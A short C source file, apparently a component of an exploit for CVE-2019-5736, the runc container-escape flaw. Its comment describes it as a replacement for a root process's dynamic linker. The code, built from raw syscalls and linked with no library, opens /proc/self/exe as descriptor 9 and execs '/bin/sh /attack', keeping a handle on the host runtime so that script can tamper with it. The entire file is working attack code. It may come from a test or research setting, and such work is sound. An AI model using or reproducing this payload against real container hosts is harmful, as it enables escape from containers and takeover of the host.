/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * In the place of a root's dynamic linker, the kernel starts this instead of the program that it is
 * executing: so it opens that program's file, /proc/self/exe, as descriptor 9, and goes on as
 * /bin/sh /attack. Linked with no library. See CVE-2019-5736.
 */
#include <fcntl.h>
#include <sys/syscall.h>

static long call(long number, long a, long b, long c)
{
	long result;

	__asm__ volatile("syscall"
	                 : "=a"(result)
	                 : "a"(number), "D"(a), "S"(b), "d"(c)
	                 : "rcx", "r11", "memory");
	return result;
}

__attribute__((used)) static void run(void)
{
	static char shell[] = "/bin/sh", script[] = "/attack";
	char *argv[] = { shell, script, 0 }, *env[] = { 0 };
	long fd = call(SYS_open, (long)"/proc/self/exe", O_RDONLY, 0);

	call(SYS_dup2, fd, 9, 0);
	call(SYS_execve, (long)shell, (long)argv, (long)env);
	call(SYS_exit_group, 99, 0, 0);
}

__asm__(".globl _start\n_start:\n\tand $-16, %rsp\n\tcall run\n");
